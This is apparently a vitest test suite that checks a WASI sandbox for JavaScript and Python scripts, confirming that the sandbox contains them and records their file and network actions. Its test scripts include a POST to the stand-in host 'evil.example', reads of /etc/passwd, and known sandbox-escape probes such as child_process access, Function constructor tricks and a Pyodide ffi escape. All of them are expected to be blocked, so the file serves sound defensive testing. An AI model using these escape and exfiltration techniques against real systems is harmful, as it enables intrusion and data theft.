import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import bubblewrap from '../bubblewrap.ts';
import wasi from './wasi.ts';

const ground = mkdtempSync(join(tmpdir(), 'scripts-'));
afterAll(() => rmSync(ground, { recursive: true, force: true }));

const LIMITS = { memory: 2 ** 31, processes: 100, fileSize: 1 << 20, time: 50_000 };

async function run(name: string, code: string, input = '', time = LIMITS.time) {
  const file = join(ground, name);
  writeFileSync(file, code);
  await using cell = await wasi.open({ read: [], write: [], env: { GIVEN: 'yes' }, network: 'none' }, { ...LIMITS, time });
  await cell.plant([{ path: '/data/notes.txt', content: 'planted wörds' }]);
  const started = await cell.start({ command: file, args: ['one'], cwd: undefined, env: {} });
  let [out, err] = ['', ''];
  started.stdout.on('data', (chunk: Buffer) => (out += chunk.toString()));
  started.stderr.on('data', (chunk: Buffer) => (err += chunk.toString()));
  started.stdin.end(input);
  const exit = await started.exit;
  const tree = await cell.take?.();
  const deeds = (tree?.files ?? []).map(({ did, path, error }) => [did, path, ...(error === undefined ? [] : [error])].join(' '));
  return { lines: out.split('\n').slice(0, -1), err, exit, deeds, network: tree?.network ?? [] };
}

describe('a script in JavaScript', () => {
  test('has arguments, variables, files, input and an exit code; what it touches and wants fetched is seen', async () => {
    const { lines, err, exit, deeds, network } = await run(
      'tool.mjs',
      `import fs, { readFileSync } from 'node:fs';
      import { homedir } from 'os';
      console.log(process.argv[2], process.env.GIVEN, readFileSync('notes.txt', 'utf8'), homedir());
      fs.writeFileSync('new.txt', Buffer.from('68c3b6', 'hex'));
      console.log(fs.readFileSync('/data/new.txt').toString('base64'), fs.readdirSync('.').join());
      try { fs.readFileSync('/etc/passwd'); } catch (error) { console.error(error.code); }
      try { await fetch('https://evil.example/x', { method: 'POST', body: 'a body' }); } catch {}
      process.stdin.on('data', (text) => console.log('heard', text.trim()));
      process.stdin.on('end', () => setTimeout(() => process.exit(3), 5));`,
      'wörds',
    );
    expect(lines).toEqual(['one yes planted wörds /home/user', 'aMO2 new.txt,notes.txt', 'heard wörds']);
    expect(err).toBe('ENOENT\n');
    expect(exit.code).toBe(3);
    expect(deeds).toEqual(['read /data/notes.txt', 'create /data/new.txt', 'read /data/new.txt', 'list /data', 'read /etc/passwd ENOENT']);
    expect(network).toMatchObject([{ host: 'evil.example', outcome: 'refused', said: { method: 'POST', body: 'a body' } }]);
  });

  test('answers a conversation line by line', async () => {
    const code = `require('readline').createInterface({ input: process.stdin }).on('line', (line) => console.log(JSON.stringify({ id: JSON.parse(line).id })));`;
    expect((await run('server.js', code, '{"id":1}\n{"id":2}\n')).lines).toEqual(['{"id":1}', '{"id":2}']);
  });

  test('reaches nothing of Node, and what it throws is told', async () => {
    const names = `['require("child_process")', 'process.binding("fs")', 'process.mainModule.require("fs")', 'WebAssembly.Memory', 'Function("return this")().process.getuid()', 'import("node:net")']`;
    const { lines, exit, err } = await run(
      'hostile.mjs',
      `for (const code of ${names}) { let got = 'held'; try { const value = await eval(code); if (value !== undefined) got = 'reached ' + code; } catch {} console.log(got); }
      throw new TypeError('on purpose');`,
    );
    expect(lines).toEqual(Array(6).fill('held'));
    expect(exit.code).toBe(1);
    expect(err).toContain('on purpose');
  });

  test('a loop without end is ended, and memory has a bound', async () => {
    expect((await run('spin.js', 'for (;;) {}', '', 2500)).exit.limit).toBe('time');
    const { exit } = await run('greedy.js', 'const all = []; for (;;) all.push(new Uint8Array(1 << 20).fill(1));');
    expect(exit.code).not.toBe(0);
  });
});

const missing = await bubblewrap.missing();
if (missing !== undefined) console.error(`NOT RUN: portable tools in Python. ${missing}`);
describe.runIf(missing === undefined || process.env['CI'] === 'true')('a script in Python', () => {
  test('has arguments, variables, files, input and an exit code, and reaches nothing of Node, no network, no program', async () => {
    const { lines, exit, deeds, network } = await run(
      'tool.py',
      `import os, sys
print(sys.argv[1], os.environ['GIVEN'], open('notes.txt', encoding='utf-8').read(), os.path.expanduser('~'))
open('new.txt', 'w').write('x'); os.rename('new.txt', 'b.txt'); print(os.listdir('.'))
def held(run):
    try: print('reached', run())
    except BaseException as error: print('held')
for name in ('js', 'pyodide_js', '_pyodide_core', '_told'): held(lambda: __import__(name))
def constructor():
    from pyodide.ffi import to_js
    return to_js([1]).constructor.constructor('return process')()
held(constructor)
def connects():
    import socket; socket.create_connection(('192.0.2.7', 80), 1)
held(connects)
held(lambda: os.system('exit 0') and 1 / 0)
held(lambda: open('/etc/passwd'))
print('heard', sys.stdin.readline().strip())
sys.exit(4)`,
      'words\n',
    );
    expect(lines).toEqual(['one yes planted wörds /home/user', "['notes.txt', 'b.txt']", ...Array<string>(8).fill('held'), 'heard words']);
    expect(exit.code).toBe(4);
    expect([...new Set(deeds)]).toEqual([
      'read /data/notes.txt',
      'create /data/new.txt',
      'rename /data/new.txt',
      'list /data',
      'read /etc/passwd ENOENT',
    ]);
    expect(network).toContainEqual(expect.objectContaining({ host: '192.0.2.7', outcome: 'refused' }));
  });
});
